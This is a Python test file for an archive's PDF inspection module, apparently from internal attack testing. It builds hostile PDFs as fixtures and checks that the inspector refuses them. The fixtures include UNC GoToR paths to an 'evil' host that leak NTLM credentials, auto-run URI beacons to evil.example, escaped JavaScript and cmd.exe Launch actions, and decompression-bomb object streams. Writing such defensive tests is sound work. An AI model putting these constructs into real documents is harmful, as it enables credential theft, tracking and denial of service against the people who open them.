"""Attack round 10 on the archive's file inspection (sidms.lib.files) with hand-written hostile PDFs.

Found and fixed: a PDF that reaches outside the document *by itself* was accepted —

* ``/GoToR`` (or an article ``/Thread``) into another file, e.g. a UNC path ``\\\\host\\share\\x.pdf``
  as the document's /OpenAction: Windows sends the reviewer's NTLM credentials to that host (CVE-2018-4993,
  "BadPDF");
* a web link (``/URI``) run from ``/OpenAction``, a page's ``/AA`` or the ``/Next`` chain of a harmless
  go-to: the document phones home when the reviewer opens it (a web link in an annotation, clicked, stays
  accepted: the viewer asks first);
* a 3D annotation or stream (a U3D/PRC parser, and ``/OnInstantiate`` scripts).

Found and fixed: object streams decompressed and parsed without a budget for the whole file. pypdf caps
each stream (75 MB) and parses an object stream at about a microsecond per byte, so a 341 KB PDF of five
deflated object streams of blanks kept a worker for three minutes (a 20 MB one: hours). Now all of a
file's object streams may decompress to 8 MB together, and each stream to no more.

Held (pinned here): ``/J#61vaScript``-style escapes in action types and keys, JavaScript in a form
field's ``/AA``, XFA under /AcroForm, and an ``/Encrypt`` entry spelt with an escape in the trailer."""

from __future__ import annotations

import struct
import time
import zlib

import pytest

from sidms.lib import files
from sidms.lib.files import FileRefused
from tests.lib.test_files import LIMITS, one_page_pdf, raw_pdf

pytestmark = [pytest.mark.req("R2.4"), pytest.mark.req("R7.4")]

U3D = "<< /Type /3D /Subtype /U3D /Length 1 >>\nstream\nx\nendstream"


def refused(data: bytes) -> FileRefused:
    with pytest.raises(FileRefused) as error:
        files.inspect(data, **LIMITS)
    return error.value


@pytest.mark.parametrize(
    "catalog, page, extra",
    [
        # NTLM credentials to a host of the attacker's choosing, as the document opens.
        (r"/OpenAction << /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >>", "", ()),
        (r"/OpenAction << /S /Thread /F (\\\\evil\\share\\x.pdf) /D 0 >>", "", ()),
        # A link clicked on the reviewer's behalf: the document tells an outsider it was opened.
        ("/OpenAction << /S /URI /URI (http://evil.example/seen) >>", "", ()),
        ("", "/AA << /O << /S /URI /URI (http://evil.example/seen) >> >>", ()),
        (
            "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (http://evil.example/) >>] >>",
            "",
            (),
        ),
        # 3D content: an annotation, its script, or a view of a 3D stream hung elsewhere.
        ("", "/Annots [4 0 R]", ("<< /Type /Annot /Subtype /3D /Rect [0 0 1 1] /3DD 5 0 R >>", U3D)),
        ("/OpenAction << /S /GoTo3DView /TA 4 0 R /V 0 >>", "", (U3D,)),
        ("", "/Foo << /OnInstantiate 4 0 R >>", ("<< /Length 8 >>\nstream\napp.x();\nendstream",)),
    ],
)
def test_a_pdf_that_reaches_outside_by_itself_is_refused(
    catalog: str, page: str, extra: tuple[str, ...]
) -> None:
    error = refused(one_page_pdf(catalog=catalog, page=page, extra=extra))
    assert error.reason in {"pdf_active_content", "pdf_javascript"}
    assert "不予接收" in error.message


def test_a_chain_of_actions_that_loops_is_refused_not_walked_forever() -> None:
    data = one_page_pdf(catalog="/OpenAction 4 0 R", extra=("<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",))
    assert refused(data).reason == "corrupt_pdf"


def test_a_web_link_clicked_a_destination_and_a_named_action_stay_accepted() -> None:
    link = "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://hrss.weihai.gov.cn) >> >>"
    data = one_page_pdf(
        catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /FirstPage >> >>",
        page="/Annots [4 0 R]", extra=(link,),
    )  # fmt: skip
    assert files.inspect(data, **LIMITS).pages == 1


@pytest.mark.parametrize(
    "data, reason",
    [
        (one_page_pdf(catalog="/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>"), "pdf_javascript"),
        (one_page_pdf(catalog="/OpenAction << /S /#4caunch /F (cmd.exe) >>"), "pdf_launch"),
        (
            one_page_pdf(
                catalog="/AcroForm << /Fields [] /XFA 4 0 R >>",
                extra=("<< /Length 1 >>\nstream\nx\nendstream",),
            ),
            "pdf_javascript",
        ),
        (
            one_page_pdf(
                page="/Annots [4 0 R]",
                extra=(
                    "<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] /AA << /Fo << /S /JavaScript /JS (x) >> >> >>",
                ),
            ),
            "pdf_javascript",
        ),
        (
            raw_pdf(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 5 5] >>",
                "<< /Filter /Standard /V 1 /R 2 /O (xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx) "
                "/U (xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx) /P -4 >>",
                trailer="/#45ncrypt 4 0 R /ID [(a)(a)] ",
            ),
            "encrypted_pdf",
        ),
    ],
)
def test_escaped_names_and_odd_places_are_still_found(data: bytes, reason: str) -> None:
    assert refused(data).reason == reason


def objstm_pdf(streams: list[list[str]], padding: int = 0) -> bytes:
    """Catalog (1), pages (2), a page (3) naming every object of STREAMS in /X; the objects (4, 5 …) live in
    deflated object streams, one per list, each followed by PADDING blanks; a cross-reference stream."""
    inside = [body for stream in streams for body in stream]
    refs = " ".join(f"{4 + i} 0 R" for i in range(len(inside)))
    out = b"%PDF-1.7\n"
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        nonlocal out
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"

    add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 5 5] /X [{refs}] >>".encode())
    first_stream = 4 + len(inside)
    where: dict[int, int] = {}
    number = 4
    for s_index, stream in enumerate(streams):
        header, bodies = b"", b""
        for body in stream:
            header += f"{number} {len(bodies)} ".encode()
            bodies += body.encode() + b" "
            where[number] = first_stream + s_index
            number += 1
        deflated = zlib.compress(header + bodies + b" " * padding, 9)
        add(
            first_stream + s_index,
            f"<< /Type /ObjStm /N {len(stream)} /First {len(header)} /Filter /FlateDecode "
            f"/Length {len(deflated)} >>\nstream\n".encode()
            + deflated
            + b"\nendstream",
        )
    xref = first_stream + len(streams)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for n in range(1, xref):
        rows.append(
            struct.pack(">BIH", 2, where[n], 0) if n in where else struct.pack(">BIH", 1, offsets[n], 0)
        )
    offsets[xref] = len(out)
    rows.append(struct.pack(">BIH", 1, len(out), 0))
    table = b"".join(rows)
    out += (
        f"{xref} 0 obj\n<< /Type /XRef /Size {xref + 1} /W [1 4 2] /Root 1 0 R /Length {len(table)} >>\n"
        "stream\n".encode()
        + table
        + b"\nendstream\nendobj\n"
    )
    return out + f"startxref\n{offsets[xref]}\n%%EOF\n".encode()


def test_object_streams_are_read_and_what_hides_in_them_is_found() -> None:
    assert files.inspect(objstm_pdf([["<< /A 1 >>", "<< /B 2 >>"], ["<< /C 3 >>"]]), **LIMITS).pages == 1
    hidden = objstm_pdf([["<< /A 1 >>"], ["<< /S /JavaScript /JS (app.alert(1)) >>"]])
    assert refused(hidden).reason == "pdf_javascript"


@pytest.mark.parametrize("streams, padding", [(5, 70_000_000), (40, 7_000_000)])
def test_object_streams_of_blanks_are_refused_at_once(streams: int, padding: int) -> None:
    data = objstm_pdf([["<< /A 1 >>"]] * streams, padding=padding)
    assert len(data) < 500_000
    started = time.monotonic()
    error = refused(data)
    assert (
        time.monotonic() - started < 10
    )  # three minutes for the first before the fix, an hour for the second
    assert error.reason == "pdf_too_complex" and "过于复杂" in error.message
